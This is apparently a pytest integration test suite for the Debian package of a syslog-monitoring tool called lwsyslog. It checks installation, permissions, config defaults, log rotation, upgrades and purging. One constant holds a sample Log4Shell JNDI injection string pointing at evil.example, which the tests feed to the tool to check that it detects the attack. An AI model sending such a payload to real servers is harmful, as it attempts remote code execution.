"""The Debian package, built from this checkout and installed with apt as an admin would.

Needs root and dpkg/apt (skipped otherwise). ``packaging/build-deb.sh --reuse`` builds it, or
keeps dist/'s package when the sources did not change since it was built.
"""

from __future__ import annotations

import grp
import json
import os
import pwd
import re
import shutil
import stat
import subprocess
import tempfile
import tomllib
from collections.abc import Iterator
from pathlib import Path

import debpkg
import pytest

pytestmark = [pytest.mark.integration, pytest.mark.slow]

VENV = Path("/opt/lwsyslog/venv")
CONFFILE = Path("/etc/lwsyslog/lwsyslog.toml")
LOGROTATE = Path("/etc/logrotate.d/lwsyslog")
STATE_DIR = Path("/var/lib/lwsyslog")
LOG_DIR = Path("/var/log/lwsyslog")
MESSAGES = LOG_DIR / "messages"
COMPLETIONS = Path("/usr/share/bash-completion/completions")
# Everything the package or its scripts put on the machine.
PACKAGE_PATHS = (
    Path("/opt/lwsyslog"),
    Path("/etc/lwsyslog"),
    LOGROTATE,
    STATE_DIR,
    LOG_DIR,
    Path("/usr/bin/lwsyslog"),
    Path("/usr/bin/lwsyslog-omprog"),
    Path("/usr/share/man/man1/lwsyslog.1.gz"),
    Path("/usr/share/man/man1/lwsyslog-omprog.1.gz"),
    COMPLETIONS / "lwsyslog",
    COMPLETIONS / "lwsyslog-omprog",
    Path("/usr/share/doc/lwsyslog"),
    Path("/usr/share/lintian/overrides/lwsyslog"),
    Path("/lib/systemd/system/lwsyslog-report.service"),
    Path("/lib/systemd/system/lwsyslog-report.timer"),
)
LOG4SHELL = (
    '203.0.113.9 - - [05/Dec/2026:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} '
    'HTTP/1.1" 200 12 "-" "curl/8.0"'
)


def _mode(path: Path) -> str:
    info = path.stat()
    owner = pwd.getpwuid(info.st_uid).pw_name
    group = grp.getgrgid(info.st_gid).gr_name
    return f"{stat.S_IMODE(info.st_mode):04o} {owner}:{group}"


def _owned_paths() -> list[Path]:
    listing = debpkg.run("dpkg-query", "-L", debpkg.PACKAGE).stdout.splitlines()
    return [Path(line) for line in listing if line.startswith("/")]


def _user_exists(name: str) -> bool:
    try:
        pwd.getpwnam(name)
    except KeyError:
        return False
    return True


def _group_exists(name: str) -> bool:
    try:
        grp.getgrnam(name)
    except KeyError:
        return False
    return True


def _settings(table: dict[str, object], prefix: str = "") -> list[str]:
    """The dotted names of the values set in a parsed TOML document (tables do not count)."""
    found: list[str] = []
    for key, value in table.items():
        if isinstance(value, dict):
            found.extend(_settings(value, f"{prefix}{key}."))
        else:
            found.append(prefix + key)
    return found


def _omprog(state_dir: Path, envelope: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            "/usr/bin/lwsyslog-omprog",
            "--no-journald",
            "--state-dir",
            str(state_dir),
            "--messages-file",
            str(state_dir / "messages"),
        ],
        input=json.dumps(envelope) + "\n",
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_commands_run_from_the_private_venv(installed_package: debpkg.Installer) -> None:
    """--version, rules and check-config work, reading the installed /etc/lwsyslog."""
    assert Path("/usr/bin/lwsyslog").resolve() == VENV / "bin" / "lwsyslog"
    version = debpkg.run("lwsyslog", "--version").stdout.strip()
    assert version == f"lwsyslog {installed_package.version}"
    rules = debpkg.run("lwsyslog", "rules").stdout
    assert re.search(r"^log4shell-jndi\s+event\s+critical", rules, re.MULTILINE)
    assert re.search(r"^auth-brute-force\s+threshold", rules, re.MULTILINE)
    checked = debpkg.run("lwsyslog", "check-config").stdout
    assert f"configuration OK: <built-in defaults>, {CONFFILE}" in checked
    # The package's per-line code is the C that mypyc built, not the pure-Python fallback.
    assert "per-line code: compiled (mypyc): all " in checked


@pytest.fixture
def reachable() -> Iterator[Path]:
    """A directory the lwsyslog user can reach: started as root, the program becomes it."""
    base = Path(tempfile.mkdtemp(prefix="lwsyslog-package-", dir="/tmp"))
    os.chmod(base, 0o755)
    yield base
    shutil.rmtree(base)


def test_omprog_answers_ok_and_writes_the_alert(
    installed_package: debpkg.Installer, reachable: Path
) -> None:
    """The installed lwsyslog-omprog speaks the protocol, runs as the lwsyslog user, and its
    detection runs."""
    envelope = {"host": "web1", "tag": "apache-access:", "program": "apache-access"}
    result = _omprog(reachable, {**envelope, "msg": LOG4SHELL})
    assert result.returncode == 0, result.stderr
    assert result.stdout == "OK\nOK\n"
    assert "running as lwsyslog" in result.stderr
    messages = reachable / "messages"
    alerts = messages.read_text().splitlines()
    assert len(alerts) == 1
    assert " critical log4shell-jndi client=203.0.113.9 " in alerts[0]
    assert pwd.getpwuid(messages.stat().st_uid).pw_name == "lwsyslog"


def test_running_writes_nothing_under_opt(
    installed_package: debpkg.Installer, reachable: Path
) -> None:
    """Byte code ships in the package: running the commands leaves no file dpkg does not know."""
    debpkg.run("lwsyslog", "rules")
    debpkg.run("lwsyslog", "explain", LOG4SHELL)
    _omprog(reachable, {"host": "web1", "tag": "apache-access:", "msg": LOG4SHELL})
    owned = set(_owned_paths())
    on_disk = {
        Path(root) / name
        for root, dirs, files in os.walk("/opt/lwsyslog")
        for name in [*dirs, *files]
    }
    assert sorted(on_disk - owned) == []


def test_conffile_shows_every_default_commented_out(installed_package: debpkg.Installer) -> None:
    """Nothing is set in the shipped conffile; removing a key's '#' gives its default."""
    conffiles = debpkg.run("dpkg-query", "-W", "-f=${Conffiles}", debpkg.PACKAGE).stdout
    assert {line.split()[0] for line in conffiles.strip().splitlines()} == {
        str(CONFFILE),
        str(LOGROTATE),
    }
    text = CONFFILE.read_text()
    assert _settings(tomllib.loads(text)) == []
    (defaults,) = VENV.glob("lib/python3*/site-packages/lwsyslog/data/defaults.toml")
    uncommented = re.sub(r"(?m)^#(?=[^\s#])", "", text)
    assert tomllib.loads(uncommented) == tomllib.loads(defaults.read_text())
    assert Path("/etc/lwsyslog/lwsyslog.d").is_dir()


def test_user_group_and_directories(installed_package: debpkg.Installer) -> None:
    """The lwsyslog system user and the state and log directories, nothing world-writable."""
    user = pwd.getpwnam("lwsyslog")
    assert user.pw_dir == str(STATE_DIR)
    assert user.pw_shell == "/usr/sbin/nologin"
    assert user.pw_uid < 1000
    assert grp.getgrgid(user.pw_gid).gr_name == "lwsyslog"
    assert _mode(STATE_DIR) == "0750 lwsyslog:lwsyslog"
    assert _mode(LOG_DIR) == "0750 root:adm"
    assert _mode(MESSAGES) == "0640 lwsyslog:adm"
    writable = [
        path
        for path in [*_owned_paths(), STATE_DIR, LOG_DIR, MESSAGES]
        if not path.is_symlink() and path.stat().st_mode & (stat.S_IWOTH | stat.S_ISUID)
    ]
    assert writable == []


def test_man_pages_and_completion(installed_package: debpkg.Installer) -> None:
    """man finds both pages, groff has nothing to warn about, bash completes sub-commands."""
    if shutil.which("man") is None:
        pytest.skip("man-db is not installed on this machine")
    for command, expected in (("lwsyslog", "check-config"), ("lwsyslog-omprog", "--state-dir")):
        page = debpkg.run("man", "-w", command).stdout.strip()
        assert page == f"/usr/share/man/man1/{command}.1.gz"
        rendered = subprocess.run(
            ["man", "--warnings", "-l", page],
            capture_output=True,
            text=True,
            env={**os.environ, "MANWIDTH": "100", "MAN_KEEP_FORMATTING": "0"},
            timeout=60,
            check=True,
        )
        assert rendered.stderr == ""
        assert expected in rendered.stdout.replace("\u2010", "-")
    completed = debpkg.run(
        "bash",
        "-c",
        f"source {COMPLETIONS / 'lwsyslog'}; COMP_WORDS=(lwsyslog che); COMP_CWORD=1; "
        '_shtab_lwsyslog; echo "${COMPREPLY[@]}"',
    ).stdout.split()
    assert completed == ["check-config"]


def test_daily_report_timer_is_installed_and_left_disabled(
    installed_package: debpkg.Installer,
) -> None:
    units = Path("/lib/systemd/system")
    service = (units / "lwsyslog-report.service").read_text()
    assert "ExecStart=/usr/bin/lwsyslog report --since 24h --mail" in service
    assert "OnCalendar=" in (units / "lwsyslog-report.timer").read_text()
    # Disabled: it needs an e-mail channel first (docs/alerts.md says how to enable it).
    assert not list(Path("/etc/systemd/system").rglob("lwsyslog-report.timer"))


def test_logrotate_rotates_every_file(installed_package: debpkg.Installer, tmp_path: Path) -> None:
    """logrotate -d accepts the rules; a forced run rotates alerts, diagnostics, raw copies."""
    logrotate = shutil.which("logrotate") or "/usr/sbin/logrotate"
    assert Path(logrotate).exists(), "logrotate (the package's Recommends) is not installed"
    checked = debpkg.run(logrotate, "-d", str(LOGROTATE))
    assert "error" not in checked.stderr.lower() + checked.stdout.lower()
    raw = LOG_DIR / "pkgtest-web1.example" / "apache-access.log"
    raw.parent.mkdir(mode=0o750, exist_ok=True)
    raw.write_text("line\n")
    MESSAGES.write_text("alert\n")
    stderr_file = LOG_DIR / "omprog.stderr"
    stderr_file.write_text("diagnostic\n")
    try:
        debpkg.run(logrotate, "--force", "--state", str(tmp_path / "state"), str(LOGROTATE))
        assert (LOG_DIR / "messages.1").read_text() == "alert\n"
        assert _mode(MESSAGES) == "0640 lwsyslog:adm"
        assert MESSAGES.read_text() == ""
        assert Path(f"{stderr_file}.1").read_text() == "diagnostic\n"
        assert Path(f"{raw}.1").read_text() == "line\n"
        assert raw.exists()
    finally:
        shutil.rmtree(raw.parent)
        for rotated in LOG_DIR.glob("*.1"):
            rotated.unlink()
        stderr_file.unlink(missing_ok=True)


def test_upgrade_and_reinstall_keep_local_changes(
    installed_package: debpkg.Installer, tmp_path: Path
) -> None:
    """A changed conffile, state and an admin's directory mode survive upgrade and reinstall."""
    changed = CONFFILE.read_text().replace("#cooldown_secs = 300", "cooldown_secs = 120", 1)
    assert "\ncooldown_secs = 120\n" in changed
    CONFFILE.write_text(changed)
    state = STATE_DIR / "omprog-default.fingerprints"
    state.write_text("kept\n")
    STATE_DIR.chmod(0o700)
    upgrade = debpkg.repack(installed_package.deb, f"{installed_package.version}+t1", tmp_path)

    debpkg.apt_get("install", str(upgrade))
    assert debpkg.installed_version() == f"{installed_package.version}+t1"
    debpkg.apt_get("install", "--reinstall", str(upgrade))
    assert CONFFILE.read_text() == changed
    assert list(CONFFILE.parent.glob("*.dpkg-*")) == []
    assert state.read_text() == "kept\n"
    assert _mode(STATE_DIR) == "0700 lwsyslog:lwsyslog"
    assert "configuration OK" in debpkg.run("lwsyslog", "check-config").stdout


def test_remove_keeps_configuration_and_data_purge_leaves_only_admin_files(
    deb_installer: debpkg.Installer,
) -> None:
    """remove: program gone, settings, state, logs and user kept. purge: nothing of the package
    is left, but a key the admin made under /etc/lwsyslog (the site CA's) is kept and named."""
    deb_installer.ensure_present()
    changed = CONFFILE.read_text().replace("#max_keys = 100000", "max_keys = 5000", 1)
    CONFFILE.write_text(changed)
    (STATE_DIR / "omprog-default.fingerprints").write_text("kept\n")
    key = Path("/etc/lwsyslog/tls/ca.key")
    key.parent.mkdir(mode=0o700, exist_ok=True)
    key.write_text("precious\n")
    try:
        debpkg.apt_get("remove", debpkg.PACKAGE)
        assert not Path("/usr/bin/lwsyslog").exists()
        assert not Path("/opt/lwsyslog").exists()
        assert CONFFILE.read_text() == changed
        assert (STATE_DIR / "omprog-default.fingerprints").read_text() == "kept\n"
        assert MESSAGES.exists()
        assert _user_exists("lwsyslog")

        purged = debpkg.apt_get("purge", debpkg.PACKAGE)
        assert "kept /etc/lwsyslog" in purged.stdout + purged.stderr
        assert sorted(Path("/etc/lwsyslog").rglob("*")) == [key.parent, key]
        assert key.read_text() == "precious\n"
        left = [path for path in PACKAGE_PATHS if path.exists() or path.is_symlink()]
        assert left == [Path("/etc/lwsyslog")]
        assert not _user_exists("lwsyslog")
        assert not _group_exists("lwsyslog")
        assert debpkg.run("dpkg-query", "-W", debpkg.PACKAGE, check=False).returncode != 0
    finally:
        shutil.rmtree("/etc/lwsyslog", ignore_errors=True)
